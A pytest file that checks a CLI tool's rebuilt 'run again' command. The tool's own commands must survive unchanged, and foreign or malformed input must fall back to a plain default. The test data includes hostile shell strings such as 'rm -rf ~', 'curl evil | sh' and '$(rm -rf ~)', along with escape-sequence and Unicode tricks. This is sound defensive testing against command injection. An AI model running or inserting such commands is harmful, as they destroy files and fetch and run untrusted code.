"""The command that makes a run again is put together anew; nothing of a stranger's is quoted."""

import shlex

import pytest

from shiftprobe.cli.terminal.runs import _command
from shiftprobe.results.command import PLAIN, rebuilt

OURS = [
    "shiftprobe sweep", "shiftprobe compare", "shiftprobe sweep tiny.yaml", "shiftprobe sweep 'my spec.yaml'",
    _command("sweep", "digits", {"seeds": 5, "shifts": ["a+b"], "train.lr": 0.001, "source.trained": ["x é.csv"]}),
    _command("compare", None, {"model.preprocess.mean": [0.5], "train.tune.lr": ["1e-3"], "arms": ["it's"]}),
]  # fmt: skip
THEIRS = [
    "", "rm -rf ~", "shiftprobe sweep; rm -rf ~", "shiftprobe sweep x && curl evil | sh", "shiftprobe audit x",
    "shiftprobe sweep --allow-code --set x=1", "shiftprobe sweep --set 'x=$(rm)'", "shiftprobe sweep --set X=1",
    "shiftprobe sweep 'a\x1b[2Jb'", "shiftprobe sweep \u202etxt", "shiftprobe sweep 'unended", "shiftprobe sweep --set",
    "shiftprobe sweep a b", "shiftprobe sweep --set 'a=NaN'", "shiftprobe sweep --set a=" + "9" * 5000, "x" * 10**6,
    "shiftprobe sweep --set 'a=" + "[" * 50_000 + "'", "shiftprobe sweep ''", "shiftprobe sweep --out=/etc",
]  # fmt: skip


@pytest.mark.parametrize("text", OURS)
def test_a_command_of_ours_comes_back_word_for_word(text: str) -> None:
    assert rebuilt(text) == text


@pytest.mark.parametrize("text", THEIRS)
def test_anything_else_becomes_the_plain_one(text: str) -> None:
    assert rebuilt(text) == PLAIN


def test_what_a_shell_would_run_stays_a_word() -> None:
    again = rebuilt("shiftprobe sweep '$(rm -rf ~).yaml' --set 'name=\"`id`\"'")
    assert shlex.split(again) == ["shiftprobe", "sweep", "$(rm -rf ~).yaml", "--set", 'name="`id`"']
    assert again == "shiftprobe sweep '$(rm -rf ~).yaml' --set 'name=\"`id`\"'"
